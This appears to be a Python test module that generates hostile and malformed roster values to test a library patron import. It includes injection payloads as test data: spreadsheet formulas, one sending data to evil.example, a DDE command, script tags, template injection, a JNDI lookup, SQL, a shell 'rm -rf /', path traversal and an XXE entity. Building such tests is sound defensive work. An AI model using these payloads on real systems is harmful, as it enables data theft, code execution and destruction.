"""Files that are well-formed, with values that hurt those who trust them."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.cases import HEAD, PEOPLE, Case, also, case, crowd, person, table, true


def value_cases() -> Iterator[Case]:
    yield from _kept_as_text()
    yield from _meant_for_another_program()
    yield from _keys()
    yield from _doubtful_values()
    yield from _plausible_and_wrong()


def _kept_as_text() -> Iterator[Case]:
    def kept(name: str, what: str, *rows: list[str]) -> Case:
        return case(name, what, table([HEAD, *rows]), truth=true(rows))

    yield kept("val-leading-zeros", "ids that are not numbers", person("00012345", barcode="00012345", grade="05"))
    yield kept("val-scientific", "a barcode that a spreadsheet has rewritten", person(200_041, barcode="2.12345E+13"))
    yield kept("val-big-integer", "25 digits", person(200_042, barcode="1234567890123456789012345"))
    late = [person(number) for number in range(1, 1_001)]
    yield kept("val-infer-trap", "a thousand numbers, then a letter", *late, person("A1001", barcode="A1001"))
    words = ("Null", "NULL", "None", "NA", "N/A", "NaN", "nan", "True", "Inf", "-", "Nil")
    yield kept("val-null-words", "people called Null", *(person(200_050 + n, last_name=word) for n, word in enumerate(words)))
    dates = ("May", "April", "Mar-1", "1-2", "2026-01-01")
    yield kept("val-date-like-names", "people called May", *(person(200_070 + n, last_name=word) for n, word in enumerate(dates)))
    yield case("val-spaces", "blanks around every value", also([f" {cell} " for cell in person(200_080)]))
    yield case("val-long-name", "a name of 5,000 letters", also(person(200_102, last_name="N" * 5_000)))


def _meant_for_another_program() -> Iterator[Case]:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    yield case("val-formula-equals", "a link for a spreadsheet", also(person(200_081, last_name=formula)))
    yield case("val-formula-dde", "a command for a spreadsheet", also(person(200_082, last_name="=cmd|' /C calc'!A0")))
    starts = ("+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", " =")
    yield case(
        "val-formula-others",
        "all that begins a formula",
        also(*(person(200_083 + n, last_name=start + "1+1") for n, start in enumerate(starts))),
    )
    yield case(
        "val-html", "scripts", also(person(200_092, last_name="<script>alert(1)</script>", first_name='"><img src=x onerror=alert(1)>'))
    )
    yield case(
        "val-html-attr",
        "what breaks out of an attribute",
        also(person(200_093, last_name="x' onmouseover='alert(1)", first_name="`x`", email="javascript:alert(1)")),
    )
    yield case(
        "val-jinja",
        "code for a template",
        also(person(200_094, last_name="{{ 7*7 }}{% for x in [].__class__.__base__.__subclasses__() %}{{x}}{% endfor %}")),
    )
    yield case(
        "val-format", "format strings", also(person(200_095, last_name="%s%s%n", first_name="{0.__class__} ${jndi:ldap://evil.example/a}"))
    )
    yield case("val-sql", "code for a database", also(person(200_096, last_name="Robert'); DROP TABLE patrons;--")))
    yield case("val-shell", "code for a shell", also(person(200_097, last_name="`id`$(id); rm -rf /")))
    yield case(
        "val-log-forge",
        "a line end that forges a line of a log",
        also(person(200_098, last_name="X\n2026-03-08 02:30:00 INFO run finished, 0 errors")),
    )
    yield case("val-path", "a path", also(person(200_099, last_name="../../../etc/passwd")))
    yield case("val-json", "what closes a JSON string", also(person(200_100, last_name='"},{"admin":true,"x":"')))
    yield case("val-xml", "an entity", also(person(200_101, last_name='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;')))


def _keys() -> Iterator[Case]:
    yield case("key-empty", "neither id nor barcode", also(person("", barcode="")))
    yield case("key-duplicate-same", "a row twice", also(person(200_110), person(200_110)))
    yield case("key-duplicate-differs", "one id, two people", also(person(200_111, last_name="Alpha"), person(200_111, last_name="Beta")))
    yield case("key-barcode-clash", "two ids, one barcode", also(person(200_112, barcode="PX"), person(200_113, barcode="PX")))
    swapped = [[*PEOPLE[0][:1], "P200002", *PEOPLE[0][2:]], [*PEOPLE[1][:1], "P200001", *PEOPLE[1][2:]]]
    yield case("key-barcode-swap", "two people exchange their barcodes", table([HEAD, *swapped]), truth=true(swapped))
    yield case("key-case", "barcodes that differ in case", also(person(200_114, barcode="Pab1"), person(200_115, barcode="PAB1")))
    yield case("key-zeros", "42, 042 and 0042", also(person("42"), person("042"), person("0042")))


def _doubtful_values() -> Iterator[Case]:
    grades = ("-1", "99", "K", "5.0", "five", "1e1")
    yield case("val-grade-bad", "grades of all kinds", also(*(person(200_120 + n, grade=grade) for n, grade in enumerate(grades))))
    dates = ("03/04/2026", "31/12/2026", "2026-02-30", "26-1-1", "45000", "0000-00-00", "9999-12-31")
    rows = "student_id,barcode,birthdate\n" + "".join(f"{n},P{n},{day}\n" for n, day in enumerate(dates))
    yield case("val-dates-bad", "dates that are none, or another's", rows, wanted=("student_id", "barcode", "birthdate"))
    yield case("val-type-unknown", "a patron type that the library does not have", also(person(200_130, type="Wizard")))
    two = person(200_131, email="a@b\r\nBcc: all@example.org"), person(200_132, email="a@b.example,c@d.example")
    yield case("val-email-bad", "a mail header within a mail address, and two addresses", also(*two))


def _plausible_and_wrong() -> Iterator[Case]:
    """Good files that are the wrong ones: only what came before can tell."""
    yield case("mass-few", "3 rows where 1,000 are usual", table(crowd(3)))
    yield case("mass-other-school", "the neighbour's file", table([HEAD, *(person(n) for n in range(900_001, 900_041))]))
    yield case(
        "mass-columns-swapped", "first and last names exchanged", table([HEAD, *([*r[:2], r[3], r[2], *r[4:]] for r in crowd(40)[1:])])
    )
    yield case("mass-column-blank", "a column is empty in every row", table([HEAD, *([*row[:6], ""] for row in crowd(40)[1:])]))
    yield case("mass-old-file", "last year's file", table(crowd(40)))
